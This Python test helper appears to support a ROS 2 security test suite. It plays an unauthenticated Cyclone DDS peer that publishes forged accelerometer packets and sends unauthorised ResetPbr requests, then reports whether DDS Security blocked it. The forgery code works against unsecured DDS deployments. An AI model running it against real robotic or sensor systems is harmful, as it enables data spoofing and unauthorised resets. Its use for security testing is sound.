"""An unauthenticated ROS 2 peer acting as an attacker (tests/ros2_security.rs), on Eclipse
Cyclone DDS (PyPI `cyclonedds`, no DDS Security configured), the types parsed from the package
directory given first (msg/pbr_msgs: its msg/*.msg and srv/*.srv):

  --accel STATION N   publishes N forged pbr_msgs/AccelPackets of one second each (100 Hz, a
                      1 Hz sine of 6 m/s² on east and north) on rt/pbr/accel, stamped so the
                      last ends now (plausible: within 20 g and not ahead of the clock);
  --reset PBR_ID      sends pbr_msgs/srv/ResetPbr requests on rq/pbr/resetRequest (the service
                      mapping of rmw_fastrtps: the bare request) and prints the replies read on
                      rr/pbr/resetReply as {"reply": {"success": …, "message": …}};
  --seconds S         how long to keep trying / listening (default 10).

Prints {"matched_readers": N} / {"matched_writers": N}: how many endpoints of the node it
matched (0 when DDS Security keeps it out).
Usage: cyclone_forge.py MSG_DIR (--accel STATION N | --reset PBR_ID) [--seconds S]
"""
import json
import math
import os
import sys
import time

from cyclone_common import Header, Time, domain_id, struct  # first: sets CYCLONEDDS_URI
from cyclonedds.core import Policy, Qos  # noqa: E402
from cyclonedds.domain import DomainParticipant  # noqa: E402
from cyclonedds.idl import types as t  # noqa: E402
from cyclonedds.pub import DataWriter  # noqa: E402
from cyclonedds.sub import DataReader  # noqa: E402
from cyclonedds.topic import Topic  # noqa: E402

PRIMITIVES = {
    "bool": bool, "uint8": t.uint8, "uint32": t.uint32, "uint64": t.uint64, "int32": t.int32,
    "float32": t.float32, "float64": t.float64, "string": str, "std_msgs/Header": Header,
}


def fields_of(lines):
    fields = []
    for line in lines:
        line = line.split("#", 1)[0].strip()
        if not line:
            continue
        ty, rest = line.split(None, 1)
        if "=" in rest:
            continue  # constant
        if ty.endswith("[]"):
            fields.append((rest.strip(), t.sequence[PRIMITIVES[ty[:-2]]]))
        else:
            fields.append((rest.strip(), PRIMITIVES[ty]))
    return fields


def msg_type(pkg_dir, name):
    with open(os.path.join(pkg_dir, "msg", name + ".msg")) as f:
        return struct(name, "pbr_msgs::msg::dds_::%s_" % name, fields_of(f))


def srv_types(pkg_dir, name):
    with open(os.path.join(pkg_dir, "srv", name + ".srv")) as f:
        text = f.read()
    request, response = text.split("---", 1)
    return (
        struct(name + "_Request", "pbr_msgs::srv::dds_::%s_Request_" % name,
               fields_of(request.splitlines())),
        struct(name + "_Response", "pbr_msgs::srv::dds_::%s_Response_" % name,
               fields_of(response.splitlines())),
    )


def reliable(depth):
    return Qos(Policy.Reliability.Reliable(max_blocking_time=1_000_000_000),
               Policy.Durability.Volatile, Policy.History.KeepLast(depth))


def forge(dp, msg_dir, station, count, seconds):
    AccelPacket = msg_type(msg_dir, "AccelPacket")
    topic = Topic(dp, "rt/pbr/accel", AccelPacket, qos=reliable(1000))
    writer = DataWriter(dp, topic, qos=reliable(1000))
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and writer.get_matched_subscriptions() == []:
        time.sleep(0.1)
    print(json.dumps({"matched_readers": len(writer.get_matched_subscriptions())}), flush=True)
    start = time.time() - count
    for seq in range(count):
        t0 = start + seq
        wave = [6.0 * math.sin(2 * math.pi * (seq + i / 100.0)) for i in range(100)]
        writer.write(AccelPacket(
            header=Header(stamp=Time(sec=int(t0), nanosec=int((t0 % 1) * 1e9)),
                          frame_id=station),
            sample_rate=100.0, sequence=seq, east=wave, north=wave, up=[], unit=0))
    print(json.dumps({"forged": count}), flush=True)
    time.sleep(2)  # let reliable delivery finish


def reset(dp, msg_dir, pbr_id, seconds):
    Request, Response = srv_types(msg_dir, "ResetPbr")
    rq = Topic(dp, "rq/pbr/resetRequest", Request, qos=reliable(10))
    rr = Topic(dp, "rr/pbr/resetReply", Response, qos=reliable(10))
    writer = DataWriter(dp, rq, qos=reliable(10))
    reader = DataReader(dp, rr, qos=reliable(10))
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and writer.get_matched_subscriptions() == []:
        time.sleep(0.1)
    print(json.dumps({"matched_readers": len(writer.get_matched_subscriptions())}), flush=True)
    next_send = 0.0
    while time.monotonic() < deadline:
        if time.monotonic() >= next_send:
            writer.write(Request(pbr_id=pbr_id))
            next_send = time.monotonic() + 1.0
        for r in reader.take(N=10):
            print(json.dumps({"reply": {"success": bool(r.success), "message": r.message}}),
                  flush=True)
            return
        time.sleep(0.05)


def main():
    msg_dir = sys.argv[1]
    seconds = float(sys.argv[sys.argv.index("--seconds") + 1]) if "--seconds" in sys.argv else 10.0
    dp = DomainParticipant(domain_id())
    if "--accel" in sys.argv:
        i = sys.argv.index("--accel")
        forge(dp, msg_dir, sys.argv[i + 1], int(sys.argv[i + 2]), seconds)
    elif "--reset" in sys.argv:
        reset(dp, msg_dir, sys.argv[sys.argv.index("--reset") + 1], seconds)
    else:
        sys.exit("usage: cyclone_forge.py MSG_DIR (--accel STATION N | --reset PBR_ID) [--seconds S]")


if __name__ == "__main__":
    main()
